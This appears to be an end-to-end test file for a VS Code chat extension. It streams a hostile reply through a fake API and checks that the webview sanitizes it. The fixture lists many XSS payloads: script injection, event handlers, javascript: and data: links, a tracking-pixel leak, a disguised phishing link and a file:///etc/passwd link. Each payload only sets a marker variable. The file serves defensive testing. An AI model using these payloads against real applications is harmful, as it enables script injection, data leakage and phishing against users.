// A reply full of hostile markdown and HTML, streamed by the fake API into the real chat webview of
// the packaged extension: nothing in it may execute, no dangerous element or attribute may reach the
// DOM, and its text must still be shown (escaped), not dropped. Also leaves screenshots of a rich
// reply in the dark and light themes under test-results/.
import * as assert from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { Frame, FrameLocator, Locator } from 'playwright-core';
import type { FakeAnthropic } from '../server/fakeAnthropic';
import { startFakeAnthropic } from '../server/fakeAnthropic';
import { largeMarkdown } from '../server/largeMarkdown';
import { testResultsDir } from '../harness/paths';
import type { Workbench } from '../harness/workbench';
import { openWorkbench } from '../harness/workbench';

/** A syntactically valid test key (never a real one). */
const testKey = `sk-ant-api03-${'X'.repeat(93)}AA`;

/** Every payload tries to set `__xss` (in the page, its parent or the workbench) to its own name. */
const hostileReply = [
  '# Totally normal answer',
  '',
  "<script>window.__xss = 'script'; parent.__xss = 'script'</script>",
  '<img src=x onerror="window.__xss=\'img-onerror\'">',
  '<svg onload="window.__xss=\'svg-onload\'"><foreignObject><body onload="window.__xss=\'foreignObject\'"></body></foreignObject></svg>',
  '<iframe src="javascript:parent.__xss=\'iframe-js\'"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=\'srcdoc\'</script>"></iframe>',
  '<object data="javascript:window.__xss=\'object\'"></object><embed src="javascript:window.__xss=\'embed\'">',
  '<style>body { display: none !important }</style>',
  '<a href="javascript:window.__xss=\'html-link\'">html link</a>',
  '<div style="background:url(javascript:window.__xss=\'style-url\')">styled div</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<form action="javascript:window.__xss=\'form\'"><button formaction="javascript:window.__xss=\'formaction\'">go</button></form>',
  '<details open ontoggle="window.__xss=\'ontoggle\'">toggle</details>',
  '',
  "Inline HTML in a paragraph: <b onmouseover=\"window.__xss='inline'\">bold?</b> and <img src=x onerror=window.__xss='inline-img'>.",
  '',
  "- [markdown js link](javascript:window.__xss='md-link')",
  "- [entity js link](jav&#x61;script:window.__xss='entity-link')",
  '- [data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9J2RhdGEnPC9zY3JpcHQ+)',
  "- [vbscript link](vbscript:msgbox('x'))",
  '- [command link](command:workbench.action.quit)',
  '- [file link](file:///etc/passwd)',
  "- ![js image](javascript:window.__xss='md-image')",
  '- ![tracking pixel](https://tracker.example/pixel.png?leak=secret)',
  '- ![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '- [safe link](https://docs.anthropic.com/en/api/messages)',
  '- [https://docs.anthropic.com/en/home](https://phish.example/login "https://docs.anthropic.com/en/home")',
  '',
  "&lt;script&gt;window.__xss='entities'&lt;/script&gt; and &#60;img src=x onerror=window.__xss='numeric'&#62;",
  '',
  '```html',
  "</code></pre><script>window.__xss='fence-breakout'</script><pre><code>",
  '```',
  '',
  "`<img src=x onerror=window.__xss='inline-code'>`",
  '',
  '| col | <img src=x onerror="window.__xss=\'table\'"> |',
  '| --- | --- |',
  "| [cell](javascript:window.__xss='cell') | <script>window.__xss='cell-script'</script> |",
].join('\n');

/** A short, rich reply for the screenshots: headings, lists, a table and highlighted code. */
const richReply = largeMarkdown(2500);

/** The chat page's frame inside the workbench (the webview's inner `#active-frame`). */
async function chatFrame(workbench: Workbench): Promise<Frame> {
  for (let attempt = 0; attempt < 100; attempt++) {
    for (const frame of workbench.page.frames()) {
      const isChat = await frame.evaluate(() => document.getElementById('chat-messages') !== null).catch(() => false);
      if (isChat) return frame;
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  throw new Error('the chat webview did not appear');
}

function chatLocator(workbench: Workbench): FrameLocator {
  return workbench.page.frameLocator('iframe.webview.ready').frameLocator('#active-frame');
}

/** Scrolls `target` into view and saves the sidebar as test-results/chat-rich-<theme>-<part>.png. */
async function shootSidebar(workbench: Workbench, chat: FrameLocator, target: Locator, part: string): Promise<void> {
  await target.scrollIntoViewIfNeeded();
  const theme = await chat.locator('body').evaluate((body) => (body.classList.contains('vscode-light') ? 'light' : body.classList.contains('vscode-dark') ? 'dark' : 'high-contrast'));
  fs.mkdirSync(testResultsDir, { recursive: true });
  await workbench.page.locator('.part.sidebar').screenshot({ path: path.join(testResultsDir, `chat-rich-${theme}-${part}.png`) });
}

async function send(workbench: Workbench, text: string): Promise<void> {
  const chat = chatLocator(workbench);
  const input = chat.locator('#chat-input');
  await input.fill(text);
  await input.press('Enter');
}

describe('chat webview rendering: hostile replies execute nothing; rich replies, errors, panels (packaged VSIX)', function () {
  let fake: FakeAnthropic;
  let workbench: Workbench;
  let frame: Frame;

  before(async () => {
    fake = await startFakeAnthropic({ validKeys: [testKey] });
    workbench = await openWorkbench({ settings: { 'claudeApi.baseUrl': fake.url, 'claudeApi.maxRetries': 0 } });
    await workbench.runCommand('Claude API: Set API Key');
    await workbench.typeKeyIntoPasswordBox(testKey);
    await workbench.runCommand('Claude: Focus on Chat View');
    await chatLocator(workbench).locator('body[data-ready="true"]').waitFor({ timeout: 60_000 });
    frame = await chatFrame(workbench);
  });

  afterEach(async function () {
    // A picture of the workbench says more about a failure here than any timeout message.
    if (this.currentTest?.state !== 'failed' || !workbench) return;
    await workbench.screenshot(`chatXss-failed-${this.currentTest.title.slice(0, 40).replace(/\W+/g, '-')}`);
    console.log(await chatLocator(workbench).locator('body').innerText().catch(() => '(no chat page)'));
  });

  after(async () => {
    await workbench?.close();
    await fake?.close();
  });

  it('renders the hostile reply as inert text', async () => {
    fake.enqueue({ kind: 'reply', text: hostileReply, chunkSize: 40 });
    await send(workbench, 'Please answer with something nasty.');
    const reply = chatLocator(workbench).locator('.turn[data-role="assistant"][data-status="complete"]').first();
    await reply.waitFor({ timeout: 30_000 });
    await reply.locator('.reply-footer').waitFor();
    // Give anything that might have been injected a chance to run (load/error events fire asynchronously).
    await frame.waitForTimeout(500);

    const findings = await frame.evaluate(() => {
      const messages = document.getElementById('chat-messages')!;
      const forbidden = messages.querySelectorAll('script, iframe, object, embed, svg, math, style, img, form, input, link, meta, base, foreignObject');
      const badAttributes: string[] = [];
      for (const element of Array.from(messages.querySelectorAll('*'))) {
        for (const attribute of Array.from(element.attributes)) {
          const name = attribute.name.toLowerCase();
          if (name.startsWith('on') || ['style', 'src', 'srcdoc', 'srcset', 'action', 'formaction', 'xlink:href'].includes(name)) {
            badAttributes.push(`${element.tagName}[${name}]`);
          }
        }
      }
      const hrefs = Array.from(messages.querySelectorAll('[href]')).map((element) => element.getAttribute('href') ?? '');
      return {
        xss: (window as unknown as { __xss?: string }).__xss,
        parentXss: (() => {
          try {
            return (window.parent as unknown as { __xss?: string }).__xss;
          } catch {
            return undefined;
          }
        })(),
        forbidden: Array.from(forbidden).map((element) => element.tagName),
        badAttributes,
        hrefs,
        bodyDisplay: getComputedStyle(document.body).display,
        text: messages.querySelector('.turn[data-role="assistant"] .markdown')?.textContent ?? '',
        linkTexts: Array.from(messages.querySelectorAll('.turn[data-role="assistant"] a')).map((a) => a.textContent),
        phishTitle: messages.querySelector('.turn[data-role="assistant"] a[href^="https://phish.example/"]')?.getAttribute('title'),
      };
    });

    assert.strictEqual(findings.xss, undefined, `a payload ran in the page: ${findings.xss}`);
    assert.strictEqual(findings.parentXss, undefined, `a payload ran in the parent frame: ${findings.parentXss}`);
    assert.strictEqual(await workbench.page.evaluate(() => (window as unknown as { __xss?: string }).__xss), undefined);
    assert.deepStrictEqual(findings.forbidden, [], 'dangerous elements reached the DOM');
    assert.deepStrictEqual(findings.badAttributes, [], 'dangerous attributes reached the DOM');
    for (const href of findings.hrefs) assert.match(href, /^https:\/\//, `only https links keep an href: ${href}`);
    assert.ok(findings.hrefs.includes('https://docs.anthropic.com/en/api/messages'), 'the safe link still works');
    assert.ok(!findings.hrefs.some((href) => href.includes('tracker.example/pixel')) || findings.linkTexts.some((text) => text?.includes('(image)')));
    assert.strictEqual(findings.phishTitle, 'https://phish.example/login', 'the hover shows the real URL, not the title the reply gave');
    assert.ok(findings.linkTexts.includes('https://docs.anthropic.com/en/home (phish.example)'), 'a link naming another site says where it goes');
    assert.notStrictEqual(findings.bodyDisplay, 'none', 'injected CSS hid the page');
    // Nothing lost: the hostile HTML is shown as text, and the markdown around it still renders.
    assert.ok(findings.text.includes("<script>window.__xss = 'script'; parent.__xss = 'script'</script>"), 'raw HTML shows as text');
    assert.ok(findings.text.includes('</code></pre><script>'), 'fenced code shows verbatim');
    assert.ok(findings.linkTexts.includes('markdown js link') || findings.text.includes('markdown js link'), 'link text kept');
  });

  it('turns clicks on hostile links into nothing, and never navigates the webview', async () => {
    const chat = chatLocator(workbench);
    const before = await frame.evaluate(() => location.href);
    for (const text of ['markdown js link', 'html link', 'data link', 'command link']) {
      const link = chat.locator('.turn[data-role="assistant"] .markdown').getByText(text, { exact: true }).first();
      if ((await link.count()) > 0) await link.click();
    }
    await frame.waitForTimeout(300);
    assert.strictEqual(await frame.evaluate(() => (window as unknown as { __xss?: string }).__xss), undefined);
    assert.strictEqual(await frame.evaluate(() => location.href), before, 'the webview did not navigate');
  });

  it('renders a rich reply (screenshots in dark and light themes)', async () => {
    fake.enqueue({ kind: 'reply', text: richReply, thinking: 'Let me lay out the steps, then show code for each.', chunkSize: 64 });
    await send(workbench, 'Walk me through the batch pipeline, with code.');
    const chat = chatLocator(workbench);
    const reply = chat.locator('.turn[data-role="assistant"][data-status="complete"]').nth(1);
    await reply.waitFor({ timeout: 30_000 });
    assert.ok((await reply.locator('.code-block').count()) >= 2, 'code blocks rendered');
    assert.ok((await reply.locator('table').count()) >= 1, 'table rendered');
    assert.ok((await reply.locator('.hljs-keyword').count()) >= 1, 'code highlighted');
    // Screen readers hear the finished blocks through the polite live region.
    assert.strictEqual(await chat.locator('#chat-live').getAttribute('aria-live'), 'polite');
    assert.match(await chat.locator('#chat-live').innerText(), /covers all \d+ steps/);
    // The composer empties once the host has saved the message.
    assert.strictEqual(await chat.locator('#chat-input').inputValue(), '');
    await reply.locator('details.thinking').click();
    await shootSidebar(workbench, chat, reply.locator('.turn-author'), 'top');
    await shootSidebar(workbench, chat, reply.locator('.reply-footer'), 'end');
    await workbench.runCommand('Preferences: Toggle between Light/Dark Themes');
    await workbench.page.waitForTimeout(1000);
    await shootSidebar(workbench, chat, reply.locator('.turn-author'), 'top');
    await shootSidebar(workbench, chat, reply.locator('.reply-footer'), 'end');
  });

  it('shows a rate-limit failure with its wait, keeps the partial reply and offers Retry and Continue', async () => {
    const chat = chatLocator(workbench);
    fake.enqueue({ kind: 'streamError', text: 'Here is the first half of a reply that will be cut off. '.repeat(4), afterChars: 120 });
    await send(workbench, 'This one fails mid-stream.');
    const interrupted = chat.locator('.turn[data-role="assistant"][data-status="interrupted"]').last();
    await interrupted.waitFor({ timeout: 30_000 });
    assert.match(await interrupted.locator('.turn-body').innerText(), /first half of a reply/);
    await interrupted.locator('.turn-error[role="alert"] .error-message').waitFor();
    await interrupted.locator('[data-action="continue"]').waitFor();

    fake.enqueue({ kind: 'httpError', status: 429, retryAfterSeconds: 30 });
    await chat.locator('[data-action="retry"]').click();
    const limited = chat.locator('.turn[data-role="assistant"][data-status="interrupted"] .turn-error[data-error-kind]').last();
    await limited.waitFor({ timeout: 30_000 });
    await limited.locator('.retry-after', { hasText: /Retry in \d+ s/ }).waitFor();
    await shootSidebar(workbench, chat, limited, 'rate-limited');

    // The settings and history panels, opened from the header.
    await chat.locator('#chat-settings-toggle').click();
    await chat.locator('#chat-settings #chat-max-tokens').waitFor();
    assert.strictEqual(await chat.locator('#chat-settings-toggle').getAttribute('aria-expanded'), 'true');
    await chat.locator('#chat-max-tokens').fill('0');
    await chat.locator('#chat-max-tokens').press('Tab');
    assert.strictEqual(await chat.locator('#chat-max-tokens').getAttribute('aria-invalid'), 'true', 'a bad value is flagged, not sent');
    await shootSidebar(workbench, chat, chat.locator('#chat-settings'), 'settings');
    await chat.locator('#chat-history-toggle').click();
    await chat.locator('#chat-history li[data-conversation-id]').first().waitFor();
    assert.ok(await chat.locator('#chat-settings').isHidden(), 'one panel at a time');
    await shootSidebar(workbench, chat, chat.locator('#chat-history'), 'history');
    await chat.locator('#chat-history-toggle').press('Escape');
    assert.ok(await chat.locator('#chat-history').isHidden(), 'Escape closes the panel');
  });
});
